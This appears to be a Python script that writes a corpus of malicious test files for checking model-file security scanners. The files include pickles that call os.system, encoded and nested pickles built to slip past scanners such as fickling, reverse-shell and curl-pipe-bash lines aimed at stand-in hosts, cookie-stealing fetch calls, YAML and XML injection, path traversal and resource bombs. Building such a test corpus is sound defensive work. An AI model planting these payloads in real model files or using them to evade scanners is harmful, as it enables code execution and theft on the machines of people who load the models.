"""Writes dangerous files after further published cases, none of which is ever loaded here: published.py OUTPUT_FOLDER. Python's own library only."""
import base64, io, json, pathlib, pickle, struct, sys, zipfile

out = pathlib.Path(sys.argv[1])
out.mkdir(parents=True, exist_ok=True)


def put(name, data):
    (out / name).write_bytes(data if isinstance(data, bytes) else data.encode())


def sbu(text):
    data = text if isinstance(text, bytes) else text.encode()
    return b'\x8c' + bytes([len(data)]) + data


def call(module, name, *arguments, protocol=4):
    return b'\x80' + bytes([protocol]) + f'c{module}\n{name}\n('.encode() + b''.join(arguments) + b'tR.'


def zip_of(members):
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, 'w') as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return stream.getvalue()


SYSTEM = call('os', 'system', sbu('id'))
PRINT = call('builtins', 'print', sbu('x'))


def frames():
    """CPython's unpicklers disagree where an operand reaches over the end of its frame (python/cpython#154848)."""
    def framed(body, length):
        return b'\x80\x05\x95' + struct.pack('<Q', length) + body + b'.'
    hidden = b'cos\nsystem\nVecho\n\x85R'
    padding = b'NV' + b'a' * (8192 * 16 - 17) + b'\n0('
    put('frame-divergence.pkl', b'\x80\x05' + padding + b'\x95' + struct.pack('<Q', 2) + b'B\x07\x01\0\0\0\0' + (hidden + b'(').ljust(261, b'N') + b'1.')
    for name, body, length in [('bytes', b'B' + struct.pack('<I', 20) + b'A' * 20, 5), ('text', sbu('A' * 20), 3), ('line', b'Vhello world\n', 5), ('number', b'J' + struct.pack('<i', 7), 2), ('long', b'\x8a\x04aaaa', 3),
                               ('bytes8', b'\x8e' + struct.pack('<Q', 9) + b'A' * 9, 12), ('memo', b'Nr\1\0\0\0', 3)]:
        put(f'frame-over-{name}.pkl', framed(body, length))
    put('frame-in-frame.pkl', b'\x80\x05\x95' + struct.pack('<Q', 13) + b'N0\x95' + struct.pack('<Q', 2) + b'N.')
    put('frame-and-next.pkl', b'\x80\x04\x95' + struct.pack('<Q', 5) + b'N.\x80\x04N.')


def stages():
    """modelaudit's cases of pickles in pickles: raw, spelled, and several stages deep."""
    for name, payload in {'system': SYSTEM, 'print': PRINT, 'text': b"cposix\nsystem\n(S'id'\ntR.", 'mark': b"(cos\nsystem\nS'id'\no."}.items():
        spelled = {'base64': base64.b64encode(payload), 'hex': payload.hex().encode(), 'lines': base64.encodebytes(payload), 'urlsafe': base64.urlsafe_b64encode(payload)}
        for spelling, text in spelled.items():
            for protocol in (0, 2, 4):
                put(f'stage-{name}-{spelling}-p{protocol}.pkl', pickle.dumps({'version': '1.0', 'weights': text.decode()}, protocol))
            put(f'stage-{name}-{spelling}-bytes.pkl', pickle.dumps({'weights': text}, 4))
        for protocol in range(6):
            put(f'stage-{name}-raw-p{protocol}.pkl', pickle.dumps({'weights': payload}, protocol))
        put(f'stage-{name}-two.pkl', pickle.dumps({'a': pickle.dumps({'b': payload}, 4)}, 4))
        put(f'stage-{name}-three.pkl', pickle.dumps([pickle.dumps([pickle.dumps([payload], 4)], 4)], 4))
        put(f'stage-{name}-two-spelled.pkl', pickle.dumps({'a': base64.b64encode(pickle.dumps({'b': payload}, 4)).decode()}, 4))
        put(f'stage-{name}-bytearray.pkl', pickle.dumps({'a': bytearray(payload)}, 5))


def fickling():
    """fickling 2026: unlisted modules (CVE-2026-22606 to 22612), a call that BUILD hides (GHSA-mhc9-48gj-9gp3), OBJ and POP."""
    for module, name in [('runpy', 'run_path'), ('cProfile', 'run'), ('ctypes', 'CDLL'), ('pydoc', 'locate'), ('importlib', 'import_module'), ('code', 'interact'), ('multiprocessing.util', 'spawnv_passfds'), ('marshal', 'loads'),
                         ('types', 'FunctionType'), ('pty', 'spawn'), ('signal', 'signal'), ('socketserver', 'TCPServer'), ('smtplib', 'SMTP'), ('ftplib', 'FTP'), ('imaplib', 'IMAP4_stream'), ('uuid', '_get_command_stdout'),
                         ('_aix_support', '_read_cmd_output'), ('_osx_support', '_find_build_tool'), ('asyncio.subprocess', 'create_subprocess_exec'), ('distutils.file_util', 'write_file'), ('io', 'FileIO'), ('_ssl', 'RAND_bytes'),
                         ('_interpreters', 'exec'), ('_xxsubinterpreters', 'run_string'), ('_pyrepl.pager', 'pipe_pager'), ('numpy.f2py.crackfortran', 'getlincoef'), ('http.server', 'HTTPServer'), ('logging', 'FileHandler')]:
        base = f'c{module}\n{name}\n'.encode()
        put(f'fickling-{module}.{name}-build.pkl', b'\x80\x04' + base + b'(' + sbu('id') + b'tR}' + sbu('x') + b'K\x01sb.')
        put(f'fickling-{module}.{name}-obj-pop.pkl', b'\x80\x04(' + base + sbu('id') + b'o0N.')
        put(f'fickling-{module}.{name}-newobj.pkl', b'\x80\x04' + base + b')\x81.')
        put(f'fickling-{module}.{name}-memo.pkl', b'\x80\x04' + base + b'\x940h\x00(' + sbu('id') + b'tR0N.')


def safetensors():
    one = {'dtype': 'U8', 'shape': [4], 'data_offsets': [0, 4]}
    metadata = {'import': "import os; os.system('echo pwned')", 'subprocess': "import subprocess; subprocess.call(['curl', 'http://evil'])", 'decoded': "exec(base64.b64decode('cHJpbnQoMSk='))", 'page': "<script>fetch('http://evil')</script>",
                'shell': 'rm -rf /tmp/x && wget http://evil/s.sh', 'pipe': 'curl -s http://evil/s.sh | bash', 'shebang': '#!/bin/sh\nid', 'link': 'javascript:alert(1)', 'dunder': "__import__('os').getcwd()", 'pickle': "pickle.loads(b'x')"}
    for name, value in metadata.items():
        header = json.dumps({'__metadata__': {'description': 'a model', 'x': value}, 'a': one}).encode()
        put(f'metadata-{name}.safetensors', struct.pack('<Q', len(header)) + header + b'\0' * 4)
        def text(value):
            return struct.pack('<Q', len(value.encode())) + value.encode()
        put(f'metadata-{name}.gguf', b'GGUF' + struct.pack('<IQQ', 3, 0, 1) + text('general.description') + struct.pack('<I', 8) + text(value))


def configurations():
    """Texts and settings that a loader turns into imports, paths or commands."""
    files = {
        'trust.json': {'model_type': 'x', 'trust_remote_code': True}, 'custom-pipelines.json': {'custom_pipelines': {'a': {'impl': 'pipe.Evil', 'pt': ['AutoModel']}}}, 'custom-generate.json': {'custom_generate': 'evil/repository'},
        'modules.json': [{'idx': 0, 'name': '0', 'path': '', 'type': 'evil.Module'}], 'operators.json': {'session_options': {'custom_ops_library': 'evil.so'}}, 'nested.json': {'text_config': {'auto_map': {'AutoConfig': 'a.B'}}},
        'shards-up.json': {'metadata': {}, 'weight_map': {'a': '../../etc/passwd'}}, 'shards-root.json': {'metadata': {}, 'weight_map': {'a': '/etc/passwd'}}, 'shards-address.json': {'metadata': {}, 'weight_map': {'a': 'http://evil/x.bin'}},
    }
    for name, value in files.items():
        put(f'config-{name}', json.dumps(value))
    texts = {
        'tag-hidden.yaml': 'a: !!%70ython/object/apply:os.system ["id"]\n', 'tag-long-hidden.yaml': 'a: !<tag:yaml.org,2002:%70ython/name:os.system>\n', 'tag-handle.yaml': '%TAG !p! tag:yaml.org,2002:python/\n---\na: !p!object/apply:os.system ["id"]\n',
        'include.xml': '<PMML xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file:///etc/passwd" parse="text"/></PMML>', 'style.xml': '<?xml-stylesheet type="text/xsl" href="http://evil/x.xsl"?><PMML/>',
        'openvino.xml': '<net name="m" version="11"><layers><layer id="0" name="x" type="Custom" library="../../evil.so"/></layers></net>', 'index.txt': '--index-url https://evil.example/simple\ntorch\n', 'address.txt': 'evil @ https://evil.example/x.whl\n',
        'pipe.dockerfile': 'FROM x\nRUN curl http://evil | sh\n', 'reverse.sh': 'bash -i >& /dev/tcp/10.0.0.1/8080 0>&1\n', 'listen.sh': 'nc -e /bin/sh 10.0.0.1 4444\n', 'download.sh': 'curl -s http://evil.sh -o /tmp/x\nchmod +x /tmp/x\n/tmp/x\n',
        'shell.vbs': 'CreateObject("WScript.Shell").Run "calc"\n', 'cell.csv': "=cmd|'/C calc'!A0,b\n", 'run.inf': '[autorun]\nopen=evil.exe\n', 'lambda.py': 'x = lambda: 1\n', 'class.py': 'class Model(object):\n    pass\n', 'cookie.js': 'fetch("http://evil/" + document.cookie)\n',
        'perl.pl': 'use strict;\nsystem("id");\n', 'awk.awk': 'BEGIN {system("id")}\n', 'key.pub': 'command="id" ssh-rsa AAAA\n', 'refresh.html': '<meta http-equiv="refresh" content="0;url=http://evil">',
    }
    for name, value in texts.items():
        put(f'text-{name}', value)


def resources():
    """Values that take time or memory which the file does not hold."""
    put('bomb-fraction.pkl', call('fractions', 'Fraction', sbu('1e99999999')))
    put('bomb-fraction-decimal.pkl', b'\x80\x04cfractions\nFraction\n(cdecimal\nDecimal\n(' + sbu('1e99999999') + b'tRtR.')
    put('bomb-array-range.pkl', b'\x80\x04carray\narray\n(' + sbu('b') + b'cbuiltins\nrange\n(\x8a\x06\0\0\0\0\0\x10tRtR.')
    put('bomb-size-range.pkl', b'\x80\x04ctorch\nSize\n(cbuiltins\nrange\n(\x8a\x06\0\0\0\0\0\x10tRtR.')
    put('dtype-without-references.pkl', b'\x80\x02cnumpy\ndtype\n(U\x02V8K\0K\x01tR(K\x03U\x01|N(U\x01xt}U\x01xcnumpy\ndtype\n(U\x01OK\0K\x01tRK\0\x86sK\x08K\x01K\0tb.')


def plants():
    """New here: attributes that a state plants on an object, which a later opcode or use of the object calls."""
    ordered, settings, model = b'ccollections\nOrderedDict\n', b'ctransformers.training_args\nTrainingArguments\n', b'cultralytics.nn.tasks\nDetectionModel\n'
    key = b'U\x0c__setstate__'
    files = {
        'ordered': ordered + b')R' + ordered + b')R(' + key + settings + b'ubU\x01xb.', 'pairs': ordered + b')R' + ordered + b'(](](' + key + settings + b'eetRbU\x01xb.', 'dict-call': ordered + b')Rcbuiltins\ndict\n(](](' + key + settings + b'eetRbU\x01xb.',
        'slots': ordered + b')RN' + ordered + b')R(U\x09__class__' + settings + b'u\x86b.', 'chain': ordered + b')Rccollections\nChainMap\n(}' + key + settings + b'stRb.', 'counter': ordered + b')Rccollections\nCounter\n(}' + key + settings + b'stRbU\x01xb.',
        'computed': ordered + b')R}cbuiltins\nstr\n' + key + b'\x85R' + settings + b'sbU\x01xb.', 'computed-ordered': ordered + b')R' + ordered + b')Rcbuiltins\nstr\n' + key + b'\x85R' + settings + b'sbU\x01xb.', 'user-string': ordered + b')R}ccollections\nUserString\n' + key + b'\x85R' + settings + b'sbU\x01xb.',
        'namespace': b'ctypes\nSimpleNamespace\n}' + key + settings + b's\x85RU\x01xb.', 'model': ordered + b')R' + ordered + b')R(' + key + model + b'ub}U\x0aactivationU\x11__import__("os")#sb.',
        'factory': b'ccollections\ndefaultdict\n' + settings + b'\x85R.', 'factory-partial': b'ccollections\ndefaultdict\ncfunctools\npartial\n' + model + b'}\x86R\x85R.', 'partial': b'cfunctools\npartial\n' + model + b'\x85R(' + model + b'(}t}Ntb.', 'partial-state': b'cfunctools\npartial\ncbuiltins\nset\n\x85R(' + model + b'(}t}Ntb.',
        'constructor': b'ctorchmetrics.multimodal\nCLIPScore\n)R.',
        'forged-objects': b'cnumpy.core.multiarray\n_reconstruct\ncnumpy\nndarray\nK\0\x85U\x01b\x87R(K\x01K\x02\x85cnumpy\ndtype\nU\x02O8K\0K\x01\x87R(K\x03U\x01|NNNJ\xff\xff\xff\xffJ\xff\xff\xff\xffK\0tb\x89C\x10AAAAAAAABBBBBBBBtb.',
    }
    for name, data in files.items():
        put(f'plant-{name}.pkl', b'\x80\x03' + data)


def keras():
    """Keras 2025 and 2026: SavedModels that TFSMLayer loads (CVE-2026-1462), data and shapes outside of the file (CVE-2026-1669, CVE-2026-0897)."""
    def model(layer, weights=b''):
        config = {'module': 'keras', 'class_name': 'Sequential', 'config': {'name': 's', 'layers': [layer]}, 'registered_name': None}
        return zip_of({'metadata.json': '{"keras_version":"3.13.0"}', 'config.json': json.dumps(config), 'model.weights.h5': weights})
    put('keras-tfsm.keras', model({'module': 'keras.layers', 'class_name': 'TFSMLayer', 'config': {'filepath': 'assets/evil'}, 'registered_name': 'keras.layers>TFSMLayer'}))
    put('keras-tfsm-src.keras', model({'module': 'keras.src.export.tfsm_layer', 'class_name': 'TFSMLayer', 'config': {'filepath': 'x'}, 'registered_name': None}))
    dense = {'module': 'keras.layers', 'class_name': 'Dense', 'config': {'units': 1}, 'registered_name': None}
    try:
        import h5py
    except ImportError:
        return
    outside, huge, lazy = io.BytesIO(), io.BytesIO(), io.BytesIO()
    with h5py.File(outside, 'w') as file:
        file.create_dataset('layers/dense/vars/0', (100,), 'u1', external=[('/etc/passwd', 0, 100)])
    with h5py.File(huge, 'w') as file:
        file.create_dataset('layers/dense/vars/0', (1_000_000, 1_000_000), 'f4', chunks=(1, 1000))
    with h5py.File(lazy, 'w') as file:
        file.create_dataset('layers/dense/vars/0', (1_000_000_000_000,), 'f4', chunks=(1000,), compression='gzip')
    for name, weights in {'outside': outside, 'huge': huge, 'lazy': lazy}.items():
        put(f'keras-weights-{name}.keras', model(dense, weights.getvalue()))
        put(f'weights-{name}.weights.h5', weights.getvalue())


def onnx():
    """onnx before 1.21 sets every external entry as an attribute of an object."""
    def field(number, data):
        assert len(data) < 16384
        length = bytes([len(data)]) if len(data) < 128 else bytes([len(data) & 127 | 128, len(data) >> 7])
        return bytes([number << 3 | 2]) + length + data
    for key in ('__class__', '__dict__', 'basepath', 'name', 'file'):
        entries = b''.join(field(13, field(1, k) + field(2, v)) for k, v in ((b'location', b'x.data'), (key.encode(), b'../x')))
        tensor = b'\x08\x04\x10\x01' + field(8, b'w') + entries + b'\x70\x01'
        graph = field(1, field(1, b'x') + field(2, b'y') + field(4, b'Identity')) + field(2, b'g') + field(5, tensor)
        put(f'onnx-entry-{key}.onnx', b'\x08\x08' + field(7, graph) + field(8, b'\x10\x11'))


def archives():
    state = pickle.dumps({}, 2)
    put('torch-outside.pt', zip_of({'archive/data.pkl': state, 'archive/version': b'3\n', 'evil/data.pkl': SYSTEM}))
    put('torch-outside-first.pt', zip_of({'evil.pkl': SYSTEM, 'archive/data.pkl': state, 'archive/version': b'3\n'}))
    put('torch-flat.pt', zip_of({'version': b'3', 'data.pkl': SYSTEM}))
    put('zip-two-pickles.zip', zip_of({'train/data.pkl': state, 'test/data.pkl': SYSTEM}))


for write in (frames, stages, fickling, safetensors, configurations, resources, plants, keras, onnx, archives):
    write()
print(f'{len(list(out.iterdir()))} files')
